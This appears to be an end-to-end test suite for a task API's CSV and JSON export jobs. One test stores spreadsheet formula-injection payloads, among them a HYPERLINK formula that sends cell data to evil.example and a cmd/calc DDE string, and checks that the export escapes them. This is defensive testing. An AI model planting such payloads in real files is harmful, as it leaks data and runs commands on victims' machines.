import { randomBytes } from 'node:crypto';
import type { Response } from 'supertest';
import type TestAgent from 'supertest/lib/agent';
import { DataSource } from 'typeorm';
import { startTestApp, TestApp } from './helpers/app';
import { errorBody, Session, signUp } from './helpers/factories';
import { freePort } from './helpers/server';
import {
  createTask,
  detailFields,
  inboxOf,
  rebuildTaskSearch,
  recountTaskCounts,
  TASKS,
  TASK_KEYS,
  TaskJson,
} from './helpers/tasks';
import { waitFor } from './helpers/wait';

const EXPORT = `${TASKS}/export`;
const JOBS = '/api/v1/jobs';
const BOM = '\uFEFF';
const CSV_HEADER = [
  'id',
  'title',
  'description',
  'status',
  'priority',
  'user_id',
  'project_id',
  'assignee_id',
  'labels',
  'due_date',
  'completed_at',
  'created_at',
  'updated_at',
];

/** A queue prefix of its own: no other spec's workers pick up these export jobs. */
function newPrefix(): string {
  return `${process.env.DB_NAME}:exports-${randomBytes(4).toString('hex')}:`;
}

interface JobJson {
  id: string;
  type: string;
  state: string;
  progress: number;
  attempts_made: number;
  max_attempts: number;
  failed_reason: string | null;
  created_at: string;
  finished_at: string | null;
}

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i += 1;
      } else {
        field += c;
        i += 1;
      }
    } else if (c === '"' && field === '') {
      quoted = true;
      i += 1;
    } else if (c === ',') {
      row.push(field);
      field = '';
      i += 1;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      if (c === '\r' || c === '\n') throw new Error(`bare line break at ${i}`);
      field += c;
      i += 1;
    }
  }
  if (field !== '' || row.length > 0) throw new Error('last record without CRLF');
  return rows;
}

/** The CSV record of a task as the export must write it (null as empty). */
function csvRecord(task: TaskJson): string[] {
  return CSV_HEADER.map((key) => {
    if (key === 'labels') return task.labels.map((label) => label.name).join(';');
    const value = task[key as Exclude<keyof TaskJson, 'labels'>];
    return value === null ? '' : String(value);
  });
}

/** Collects a binary/text body as a UTF-8 string, whatever its content type. */
function asText(res: Response): string {
  return Buffer.isBuffer(res.body) ? res.body.toString('utf8') : res.text;
}

function download(http: TestAgent, user: Session, jobId: string) {
  return http
    .get(`${JOBS}/${jobId}/result`)
    .set(user.auth)
    .buffer(true)
    .parse((res, callback) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => callback(null, Buffer.concat(chunks)));
    });
}

async function requestExport(
  http: TestAgent,
  user: Session,
  body: Record<string, unknown>,
): Promise<string> {
  const res = await http.post(EXPORT).set(user.auth).send(body).expect(202);
  const jobId = res.body.job_id as string;
  expect(jobId).toMatch(/^export-[0-9a-f-]{36}$/);
  expect(res.headers.location).toBe(`${JOBS}/${jobId}`);
  return jobId;
}

function waitForState(
  http: TestAgent,
  user: Session,
  jobId: string,
  state: string,
): Promise<JobJson> {
  return waitFor(
    async () => {
      const res = await http.get(`${JOBS}/${jobId}`).set(user.auth).expect(200);
      const job = res.body as JobJson;
      if (job.state === 'failed' && state !== 'failed') {
        throw new Error(`job failed: ${job.failed_reason}`);
      }
      return job.state === state ? job : undefined;
    },
    { timeoutMs: 25_000, intervalMs: 100, what: `job ${jobId} ${state}` },
  );
}

/** Requests an export, waits for it and returns the downloaded file's text. */
async function exportText(
  http: TestAgent,
  user: Session,
  body: Record<string, unknown>,
): Promise<{ text: string; res: Response; jobId: string }> {
  const jobId = await requestExport(http, user, body);
  await waitForState(http, user, jobId, 'completed');
  const res = await download(http, user, jobId).expect(200);
  return { text: asText(res), res, jobId };
}

describe('Task exports and job status (e2e)', () => {
  let t: TestApp;
  let owner: Session;
  let other: Session;
  let stranger: Session;

  beforeAll(async () => {
    t = await startTestApp({ REDIS_KEY_PREFIX: newPrefix() });
    owner = await signUp(t.http);
    other = await signUp(t.http);
    stranger = await signUp(t.http);
  });

  afterAll(async () => {
    await t?.close();
  });

  it('should export the filtered visible tasks as RFC 4180 CSV, assigned ones included', async () => {
    const tricky = await createTask(t.http, owner, {
      title: '完成项目文档',
      description: 'line 1\nline 2, with "quotes"\r\nend',
      priority: 'high',
      due_date: '2026-02-01T00:00:00.000Z',
    });
    await createTask(t.http, owner, { title: '项目计划', status: 'completed' });
    await createTask(t.http, owner, { title: 'unrelated' });
    const assigned = await createTask(t.http, other, {
      title: '别人的项目',
      assignee_id: owner.id,
    });
    await createTask(t.http, other, { title: '秘密项目' });
    const deleted = await createTask(t.http, owner, { title: '删除的项目' });
    await t.http.delete(`${TASKS}/${deleted.id}`).set(owner.auth).expect(200);

    const { text, res, jobId } = await exportText(t.http, owner, {
      format: 'csv',
      status: 'pending',
      q: '项目',
    });
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="tasks-${jobId}.csv"`);
    expect(Number(res.headers['content-length'])).toBe(Buffer.byteLength(text));
    expect(text.startsWith(BOM)).toBe(true);
    const rows = parseCsv(text.slice(BOM.length));
    expect(rows[0]).toEqual(CSV_HEADER);
    // Default order: created_at desc, so the assigned task (created later) comes first.
    expect(rows.slice(1)).toEqual([csvRecord(assigned), csvRecord(tricky)]);
    expect(rows[2][2]).toBe('line 1\nline 2, with "quotes"\r\nend');
    // Each task sits in its creator's inbox: the assigned one in the other user's.
    const ds = t.app.get(DataSource);
    const [project, assignee] = ['project_id', 'assignee_id'].map((c) => CSV_HEADER.indexOf(c));
    expect([rows[1][project], rows[1][assignee]]).toEqual([
      String(await inboxOf(ds, other.id)),
      String(owner.id),
    ]);
    expect([rows[2][project], rows[2][assignee]]).toEqual([
      String(await inboxOf(ds, owner.id)),
      '',
    ]);
  });

  it('should prefix formula-like text cells with a quote in CSV and keep JSON as stored', async () => {
    const user = await signUp(t.http);
    // [title, description] as stored, then as the CSV cells must read.
    const cases: Array<[string, string, string, string]> = [
      [
        '=HYPERLINK("http://evil.example/?d="&A1,"open")',
        '',
        `'=HYPERLINK("http://evil.example/?d="&A1,"open")`,
        '',
      ],
      ['+1+cmd|" /C calc"!A0', '\tvia tab', `'+1+cmd|" /C calc"!A0`, "'\tvia tab"],
      ['-2+3', '\r=1+1', "'-2+3", "'\r=1+1"],
      ['@SUM(1,2)', '=1', "'@SUM(1,2)", "'=1"],
      ['plain = text', 'a-b @c', 'plain = text', 'a-b @c'],
    ];
    for (const [title, description] of cases) {
      await createTask(t.http, user, { title, description });
    }

    const csv = await exportText(t.http, user, { format: 'csv', sort: 'title', order: 'asc' });
    const records = parseCsv(csv.text.slice(BOM.length)).slice(1);
    const cells = (record: string[]): [string, string] => [record[1], record[2]];
    expect(records.map(cells).sort()).toEqual(
      cases.map(([, , title, description]): [string, string] => [title, description]).sort(),
    );

    const json = await exportText(t.http, user, { format: 'json' });
    const exported = (JSON.parse(json.text) as TaskJson[]).map((task): [string, string] => [
      task.title,
      task.description,
    ]);
    expect(exported.sort()).toEqual(
      cases.map(([title, description]): [string, string] => [title, description]).sort(),
    );
  });

  it('should export JSON in the requested sort, equal to the listing', async () => {
    const user = await signUp(t.http);
    for (const title of ['b 任务', 'a task', 'C task', 'b 任务']) {
      await createTask(t.http, user, { title, priority: 'low' });
    }
    await createTask(t.http, other, { title: 'd assigned', assignee_id: user.id });
    await createTask(t.http, user, { title: 'high one', priority: 'high' });

    const { text, res, jobId } = await exportText(t.http, user, {
      format: 'json',
      sort: 'title',
      order: 'asc',
      priority: ['low', 'medium'],
    });
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="tasks-${jobId}.json"`);
    const exported = JSON.parse(text) as TaskJson[];
    const listed = await t.http
      .get(`${TASKS}?sort=title&order=asc&priority=low,medium&page_size=100`)
      .set(user.auth)
      .expect(200);
    expect(exported).toEqual(listed.body);
    expect(exported.map((task) => task.title)).toEqual([
      'a task',
      'b 任务',
      'b 任务',
      'C task',
      'd assigned',
    ]);
    expect(Object.keys(exported[0]).sort()).toEqual(TASK_KEYS);
  });

  it('should export an empty array and a header-only CSV when nothing matches', async () => {
    const user = await signUp(t.http);
    const json = await exportText(t.http, user, { format: 'json' });
    expect(JSON.parse(json.text)).toEqual([]);
    const csv = await exportText(t.http, user, { format: 'csv', overdue: true });
    expect(parseCsv(csv.text.slice(BOM.length))).toEqual([CSV_HEADER]);
  });

  it('should show the job to its owner only, with progress 100 once completed', async () => {
    await createTask(t.http, owner, { title: 'for the job' });
    const jobId = await requestExport(t.http, owner, { format: 'json' });
    const job = await waitForState(t.http, owner, jobId, 'completed');
    expect(job).toEqual({
      id: jobId,
      type: 'export',
      state: 'completed',
      progress: 100,
      attempts_made: expect.any(Number),
      max_attempts: expect.any(Number),
      failed_reason: null,
      created_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
      finished_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
    });
    expect(job.max_attempts).toBeGreaterThanOrEqual(1);
    expect(Date.parse(job.finished_at as string)).toBeGreaterThanOrEqual(
      Date.parse(job.created_at),
    );

    const foreign = await t.http.get(`${JOBS}/${jobId}`).set(stranger.auth).expect(404);
    expect(foreign.body).toMatchObject(errorBody('NOT_FOUND'));
    const foreignResult = await t.http
      .get(`${JOBS}/${jobId}/result`)
      .set(stranger.auth)
      .expect(404);
    expect(foreignResult.body).toMatchObject(errorBody('NOT_FOUND'));
    // Unknown and malformed ids answer the same 404.
    for (const id of [`export-${'0'.repeat(8)}-0000-0000-0000-${'0'.repeat(12)}`, 'nope', '1']) {
      const unknown = await t.http.get(`${JOBS}/${id}`).set(owner.auth).expect(404);
      expect(unknown.body).toMatchObject(errorBody('NOT_FOUND'));
      await t.http.get(`${JOBS}/${id}/result`).set(owner.auth).expect(404);
    }
    await t.http.get(`${JOBS}/${jobId}`).expect(401);
    await t.http.get(`${JOBS}/${jobId}/result`).expect(401);
  });

  it('should replay the same job for a repeated Idempotency-Key and refuse another body', async () => {
    const key = `export-${randomBytes(6).toString('hex')}`;
    const body = { format: 'csv', status: ['pending'] };
    const first = await t.http
      .post(EXPORT)
      .set(owner.auth)
      .set('Idempotency-Key', key)
      .send(body)
      .expect(202);
    const again = await t.http
      .post(EXPORT)
      .set(owner.auth)
      .set('Idempotency-Key', key)
      .send(body)
      .expect(202);
    expect(again.body).toEqual(first.body);
    expect(again.headers.location).toBe(first.headers.location);
    expect(again.headers['idempotent-replayed']).toBe('true');

    const mismatch = await t.http
      .post(EXPORT)
      .set(owner.auth)
      .set('Idempotency-Key', key)
      .send({ format: 'json' })
      .expect(422);
    expect(mismatch.body).toMatchObject(errorBody('IDEMPOTENCY_MISMATCH'));
    // The key is per user: another user's request with it is a new export.
    const theirs = await t.http
      .post(EXPORT)
      .set(other.auth)
      .set('Idempotency-Key', key)
      .send(body)
      .expect(202);
    expect(theirs.body.job_id).not.toBe(first.body.job_id);
    await waitForState(t.http, owner, first.body.job_id as string, 'completed');
  });

  it.each([
    [{}, 'format'],
    [{ format: 'xml' }, 'format'],
    [{ format: 'csv', page: 2 }, 'page'],
    [{ format: 'csv', user_id: 1 }, 'user_id'],
    [{ format: 'csv', status: 'done' }, 'status'],
    [{ format: 'csv', priority: ['high', 'urgent'] }, 'priority'],
    [{ format: 'csv', sort: 'password' }, 'sort'],
    [{ format: 'csv', order: 'up' }, 'order'],
    [{ format: 'csv', scope: 'everyone' }, 'scope'],
    [{ format: 'csv', assignee_id: 0 }, 'assignee_id'],
    [{ format: 'csv', assignee_id: 'someone' }, 'assignee_id'],
    [{ format: 'csv', due_before: 'tomorrow' }, 'due_before'],
    [{ format: 'csv', overdue: 'yes' }, 'overdue'],
    [{ format: 'csv', q: 'x'.repeat(201) }, 'q'],
  ])('should refuse the body %j with 400 naming %s', async (body, field) => {
    const res = await t.http.post(EXPORT).set(owner.auth).send(body).expect(400);
    expect(res.body).toMatchObject(errorBody('VALIDATION_FAILED'));
    expect(detailFields(res.body)).toContain(field);
  });

  it('should accept assignee_id as a number or none and overdue as a boolean', async () => {
    const user = await signUp(t.http);
    const mine = await createTask(t.http, user, { title: 'to other', assignee_id: other.id });
    await createTask(t.http, user, { title: 'unassigned' });
    const byNumber = await exportText(t.http, user, { format: 'json', assignee_id: other.id });
    expect((JSON.parse(byNumber.text) as TaskJson[]).map((task) => task.id)).toEqual([mine.id]);
    const none = await exportText(t.http, user, {
      format: 'json',
      assignee_id: 'none',
      overdue: false,
    });
    expect((JSON.parse(none.text) as TaskJson[]).map((task) => task.title)).toEqual(['unassigned']);
  });

  it('should export thousands of rows over several batches in exact order, ties and nulls included', async () => {
    const user = await signUp(t.http);
    const helper = await signUp(t.http);
    const ds = t.app.get(DataSource);
    const base = Date.UTC(2026, 0, 1);
    // Many equal due dates and NULLs force the keyset to break ties by id across batches.
    const values: unknown[] = [];
    const rows: string[] = [];
    const inboxes = new Map([
      [user.id, await inboxOf(ds, user.id)],
      [helper.id, await inboxOf(ds, helper.id)],
    ]);
    for (let i = 0; i < 2600; i += 1) {
      const ownerId = i % 5 === 0 ? helper.id : user.id;
      const assignee = ownerId === helper.id ? user.id : null;
      const due = i % 7 === 0 ? null : new Date(base + (i % 13) * 86_400_000);
      const at = new Date(base + (i % 3) * 1000);
      rows.push('(?, ?, ?, ?, ?, 1, 2, ?, NULL, ?, ?, NULL, 1)');
      values.push(
        ownerId,
        inboxes.get(ownerId),
        assignee,
        `bulk ${i}`,
        i % 11 === 0 ? '含,逗号' : '',
        due,
        at,
        at,
      );
    }
    await ds.query(
      'INSERT INTO tasks (user_id, project_id, assignee_id, title, description, status, priority, due_date, ' +
        `completed_at, created_at, updated_at, deleted_at, version) VALUES ${rows.join(', ')}`,
      values,
    );
    await recountTaskCounts(ds, [...inboxes.values()]);
    await rebuildTaskSearch(ds, [...inboxes.values()]);

    for (const order of ['asc', 'desc'] as const) {
      const { text, jobId } = await exportText(t.http, user, {
        format: 'json',
        sort: 'due_date',
        order,
      });
      const exported = JSON.parse(text) as TaskJson[];
      expect(exported).toHaveLength(2600);
      expect(new Set(exported.map((task) => task.id)).size).toBe(2600);
      const key = (task: TaskJson): [number, number] => [
        task.due_date === null ? -Infinity : Date.parse(task.due_date),
        task.id,
      ];
      const sorted = [...exported].sort((a, b) => {
        const [ka, ia] = key(a);
        const [kb, ib] = key(b);
        const cmp = ka === kb ? ia - ib : ka < kb ? -1 : 1;
        return order === 'asc' ? cmp : -cmp;
      });
      expect(exported.map((task) => task.id)).toEqual(sorted.map((task) => task.id));
      const job = await t.http.get(`${JOBS}/${jobId}`).set(user.auth).expect(200);
      expect(job.body.progress).toBe(100);
    }

    const csv = await exportText(t.http, user, { format: 'csv', sort: 'title', order: 'asc' });
    const records = parseCsv(csv.text.slice(BOM.length));
    expect(records).toHaveLength(2601);
    expect(new Set(records.slice(1).map((record) => record[0])).size).toBe(2600);
  });

  it('should answer 404 for an expired result and purge expired files on the next export', async () => {
    const user = await signUp(t.http);
    await createTask(t.http, user, { title: 'expiring' });
    const { jobId } = await exportText(t.http, user, { format: 'csv' });
    const ds = t.app.get(DataSource);
    const past = new Date(Date.now() - 1000);
    await ds.query('UPDATE export_files SET expires_at = ? WHERE job_id = ?', [past, jobId]);
    await ds.query('UPDATE export_file_chunks SET expires_at = ? WHERE job_id = ?', [past, jobId]);

    const expired = await t.http.get(`${JOBS}/${jobId}/result`).set(user.auth).expect(404);
    expect(expired.body).toMatchObject(errorBody('NOT_FOUND'));

    await exportText(t.http, user, { format: 'json' });
    const left = await ds.query<Array<{ n: unknown }>>(
      'SELECT (SELECT COUNT(*) FROM export_files WHERE job_id = ?) + ' +
        '(SELECT COUNT(*) FROM export_file_chunks WHERE job_id = ?) AS n',
      [jobId, jobId],
    );
    expect(Number(left[0].n)).toBe(0);
  });
});

describe('Export jobs before completion (e2e)', () => {
  it('should answer 409 and state waiting until a worker has run the job, then 200', async () => {
    const prefix = newPrefix();
    const api = await startTestApp({ REDIS_KEY_PREFIX: prefix, RUN_WORKERS: 'false' });
    let worker: TestApp | undefined;
    try {
      const user = await signUp(api.http);
      const task = await createTask(api.http, user, { title: '等待导出' });
      const jobId = await requestExport(api.http, user, { format: 'csv' });

      const waiting = await api.http.get(`${JOBS}/${jobId}`).set(user.auth).expect(200);
      expect(waiting.body).toMatchObject({
        id: jobId,
        type: 'export',
        state: 'waiting',
        progress: 0,
        attempts_made: 0,
        failed_reason: null,
        finished_at: null,
      });
      const early = await api.http.get(`${JOBS}/${jobId}/result`).set(user.auth).expect(409);
      expect(early.body).toMatchObject(errorBody('CONFLICT'));

      worker = await startTestApp({ REDIS_KEY_PREFIX: prefix });
      const done = await waitForState(api.http, user, jobId, 'completed');
      expect(done.progress).toBe(100);
      // Stored in MySQL: the instance without workers serves the file another one wrote.
      const res = await download(api.http, user, jobId).expect(200);
      expect(parseCsv(asText(res).slice(BOM.length))).toEqual([CSV_HEADER, csvRecord(task)]);
    } finally {
      await worker?.close();
      await api.close();
    }
  });
});

describe('Export requests while Redis is unreachable (e2e)', () => {
  it('should answer 503 quickly instead of queuing', async () => {
    const down = await startTestApp({ REDIS_PORT: String(await freePort()) });
    try {
      const user = await signUp(down.http);
      const started = Date.now();
      const res = await down.http.post(EXPORT).set(user.auth).send({ format: 'csv' }).expect(503);
      expect(Date.now() - started).toBeLessThan(2000);
      expect(res.body).toMatchObject(errorBody('SERVICE_UNAVAILABLE'));
      // A failed request forgets its Idempotency-Key: nothing is stored for it.
      const keyed = await down.http
        .post(EXPORT)
        .set(user.auth)
        .set('Idempotency-Key', 'down-1')
        .send({ format: 'csv' })
        .expect(503);
      expect(keyed.body).toMatchObject(errorBody('SERVICE_UNAVAILABLE'));
      const status = await down.http
        .get(`${JOBS}/export-${'0'.repeat(8)}-0000-0000-0000-${'0'.repeat(12)}`)
        .set(user.auth)
        .expect(503);
      expect(status.body).toMatchObject(errorBody('SERVICE_UNAVAILABLE'));
    } finally {
      await down.close();
    }
  });
});
